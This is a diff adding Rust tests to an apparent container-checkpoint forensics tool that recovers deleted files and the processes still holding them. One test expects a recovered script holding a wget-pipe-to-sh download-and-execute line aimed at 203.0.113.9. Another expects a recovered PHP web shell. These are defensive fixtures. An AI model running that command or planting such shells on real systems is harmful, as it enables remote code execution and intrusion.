@@ -258,3 +258,48 @@ fn a_directory_that_is_not_a_checkpoint_says_so() {
     let err = support::stderr(&out);
     assert!(err.contains("not a checkpoint") && !err.contains("symlink"), "{err}");
 }
+
+#[test]
+fn genuine_ghost_files_are_recovered_with_their_holders() {
+    // containerd 2.x: the deleted /tmp/payload.sh, still open on fd 3 of two processes
+    let out = scratch("ghosts");
+    let o = analyze(true, &[&containerd2(), "--deleted", "--extract-deleted", "/tmp/payload.sh", "--out", out.to_str().unwrap()]);
+    assert!(o.status.success(), "{}", support::stderr(&o));
+    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
+    let d = &r["deleted"][0];
+    assert_eq!(d["path"], "/tmp/payload.sh");
+    let fd3: Vec<&Value> = d["holders"].as_array().unwrap().iter().filter(|h| h["as"] == "fd" && h["fd"] == 3).collect();
+    assert_eq!(fd3.len(), 2, "{d:#}");
+    let written = r["extracted_deleted"][0]["written"].as_str().unwrap();
+    assert_eq!(std::fs::read_to_string(written).unwrap(), "#!/bin/sh\nwget -q -O- http://203.0.113.9/x | sh\n");
+    assert_eq!(r["summary"]["ghost_files"], 1);
+
+    // CRI-O: the web shell renamed to /tmp/.s before it was deleted, recovered under that name
+    let o = analyze(true, &[&crio(), "--extract-deleted", "--all", "--out", out.to_str().unwrap()]);
+    assert!(o.status.success(), "{}", support::stderr(&o));
+    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
+    let w = &r["extracted_deleted"][0];
+    assert_eq!(w["path"], "/tmp/.s");
+    assert!(std::fs::read_to_string(w["written"].as_str().unwrap()).unwrap().contains("<?php"), "{w}");
+}
+
+#[test]
+fn a_malformed_ghost_image_is_one_error_line_and_the_other_views_still_print() {
+    let dir = scratch("ghost-cut");
+    let cut = dir.join("cut.tar");
+    // the ghost entry claims 4 GiB
+    rebuild(&containerd2(), &cut, |name, mut b| {
+        if name.ends_with("ghost-file-1.img") {
+            b[8..12].copy_from_slice(&u32::MAX.to_le_bytes());
+        }
+        Some(b)
+    });
+    let o = analyze(true, &[cut.to_str().unwrap(), "--deleted", "--ps-tree"]);
+    assert_eq!(o.status.code(), Some(3), "{}", support::stderr(&o));
+    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
+    assert!(!r["processes"].as_array().unwrap().is_empty());
+    assert_eq!(r["deleted"], serde_json::json!([]));
+    let err = support::stderr(&o);
+    assert_eq!(err.lines().count(), 1, "{err}");
+    assert!(err.contains("ghost-file-1.img"), "{err}");
+}
